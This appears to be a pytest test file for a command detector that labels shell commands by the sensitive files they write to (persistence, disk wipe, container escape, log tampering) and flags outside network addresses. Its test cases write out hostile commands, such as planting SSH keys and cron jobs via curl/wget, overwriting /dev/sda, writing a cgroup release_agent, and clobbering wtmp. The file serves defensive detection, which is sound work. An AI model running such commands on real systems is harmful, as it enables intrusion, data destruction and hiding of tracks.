"""What a command writes is told by the file, whatever the tool; and what addresses a text names."""

from time import perf_counter

import pytest

from vedette.detect.outside import names_outside
from vedette.detect.writes import written


@pytest.mark.parametrize(
    ("command", "mark"),
    [
        ("curl -sSo /root/.ssh/authorized_keys http://x", "plant"),
        ("wget --output-document=/etc/cron.d/x http://x", "plant"),
        ("wget -P /etc/cron.hourly http://x", "plant"),
        ("scp k@10.0.0.1:/x /home/ana/.ssh/authorized_keys", "plant"),
        ("sh -c cat x | tee -a /etc/profile", "plant"),
        ("sed -i s/a/b/ /etc/pam.d/sshd", "plant"),
        ("mv /opt/x '/usr/bin/ls'", "plant"),
        ("sh -c cat x >/dev/sda", "wipe"),
        ("sh -c echo x > /sys/fs/cgroup/a/release_agent", "escape"),
        ("cp /opt/x /var/log/wtmp", "cover"),
        ("mv /var/log/syslog /root/x", "cover"),
    ],
)
def test_files_that_matter(command: str, mark: str) -> None:
    found = written(command)
    assert found is not None
    assert found.mark == mark


@pytest.mark.parametrize(
    "command",
    [
        "cp /etc/passwd /var/backups/passwd",
        "mv /var/log/syslog /var/log/syslog.1",
        "sh -c date >> /var/log/syslog",
        "tee -a /var/log/auth.log",
        "cat /root/.ssh/authorized_keys",
        "wget -qO- http://x/etc/cron.d/x",
        "curl -o /opt/x http://x/bin/",
        "apt-get install /usr/bin/x",
        "cp /usr/bin/x /opt/x",
        "sh -c echo x 2>/dev/null",
        "rsync -a /etc/cron.d backup:/srv",
        "",
    ],
)
def test_files_that_do_not(command: str) -> None:
    assert written(command) is None


def test_no_command_takes_long() -> None:
    begun = perf_counter()
    for part in ("curl -", "sed -i ", "cp /etc/", "tee -a ", "wget -O", "dd of=", ">", "sed -e "):
        written((part * 1_000)[:990] + " /etc/x")
    assert perf_counter() - begun < 2.0


@pytest.mark.parametrize(
    ("text", "outside"),
    [
        ("curl http://203.0.113.9/x", True),
        ("ssh -N x@203.0.113.9", True),
        ("socat - TCP:203.0.113.9:443", True),
        ("203.0.113.9:/share", True),
        ("curl http://10.0.0.9/x", False),
        ("curl http://172.20.0.9/x", False),
        ("ssh 100.64.1.2", False),
        ("ping 127.0.0.1", False),
        ("curl -O https://example.org/v/1.2.3.4/x.tgz", False),
        ("tool-1.2.3.4", False),
        ("echo 300.1.1.1", False),
        ("echo 224.0.0.251", False),
    ],
)
def test_addresses_outside(text: str, *, outside: bool) -> None:
    assert names_outside(text) is outside
